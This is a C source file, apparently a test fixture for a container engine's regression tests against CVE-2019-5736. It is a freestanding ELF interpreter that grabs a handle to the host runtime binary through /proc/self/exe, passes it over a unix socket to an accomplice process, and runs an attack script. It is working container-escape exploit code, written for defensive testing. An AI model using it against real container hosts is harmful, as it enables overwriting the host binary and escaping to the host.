/* The attacker of the engine's CVE-2019-5736 tests
 * (tests/integration/engine-exe-guard.bats), as the ELF interpreter of
 * berth's binary inside a busybox container: a container made a process of
 * berth's execute /proc/self/exe or /proc/1/exe, and the kernel loads the
 * interpreter of that binary from the container's root. This program then
 * runs in a process whose /proc/self/exe is the binary on the host: it
 * opens it, sends the fd to the socket /out/sock (exe-thief --receive, the
 * accomplice outside), keeps it as fd 3 and executes /out/attack.sh.
 *
 * Freestanding (no libc): the auxiliary vector describes berth's binary,
 * which a static libc would take for its own. */
#include <fcntl.h>
#include <linux/un.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/syscall.h>

#if defined(__x86_64__)
static long sys6(long n, long a, long b, long c, long d, long e, long f)
{
	long ret;
	register long r10 __asm__("r10") = d;
	register long r8 __asm__("r8") = e;
	register long r9 __asm__("r9") = f;
	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return ret;
}
#elif defined(__aarch64__)
static long sys6(long n, long a, long b, long c, long d, long e, long f)
{
	register long x8 __asm__("x8") = n;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;
	register long x4 __asm__("x4") = e;
	register long x5 __asm__("x5") = f;
	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5) : "memory");
	return x0;
}
#else
#error "exe-thief-interp: x86_64 and aarch64 only"
#endif

#define sys(n, a, b, c) sys6(n, (long)(a), (long)(b), (long)(c), 0, 0, 0)

static void send_fd(int fd)
{
	struct sockaddr_un addr = { .sun_family = AF_UNIX, .sun_path = "/out/sock" };
	char byte = 'x';
	union {
		struct cmsghdr h;
		char buf[CMSG_SPACE(sizeof(int))];
	} control = { 0 };
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr msg = {
		.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buf, .msg_controllen = sizeof(control.buf)
	};
	int s = (int)sys(__NR_socket, AF_UNIX, SOCK_STREAM, 0);

	control.h.cmsg_level = SOL_SOCKET;
	control.h.cmsg_type = SCM_RIGHTS;
	control.h.cmsg_len = CMSG_LEN(sizeof(int));
	*(int *)CMSG_DATA(&control.h) = fd;
	if (s < 0 || sys(__NR_connect, s, &addr, sizeof(addr)) < 0)
		return;
	sys(__NR_sendmsg, s, &msg, 0);
	sys(__NR_close, s, 0, 0);
}

void thief_main(void);
void thief_main(void)
{
	static char *const argv[] = { "sh", "/out/attack.sh", NULL };
	static char *const envp[] = { "PATH=/bin", NULL };
	int fd = (int)sys(__NR_openat, AT_FDCWD, "/proc/self/exe", O_RDONLY);

	if (fd >= 0 && fd != 3) {
		sys(__NR_dup3, fd, 3, 0);
		sys(__NR_close, fd, 0, 0);
	}
	if (fd >= 0)
		send_fd(3);
	sys(__NR_execve, "/bin/sh", argv, envp);
	sys(__NR_exit_group, 112, 0, 0);
}

/* the stack is aligned as the ABI wants at a call */
#if defined(__x86_64__)
__asm__(".globl _start\n_start:\n\tand $-16, %rsp\n\tcall thief_main\n\thlt\n");
#else
__asm__(".globl _start\n_start:\n\tmov x0, sp\n\tand x0, x0, #-16\n\tmov sp, x0\n\tbl thief_main\n\tbrk #0\n");
#endif
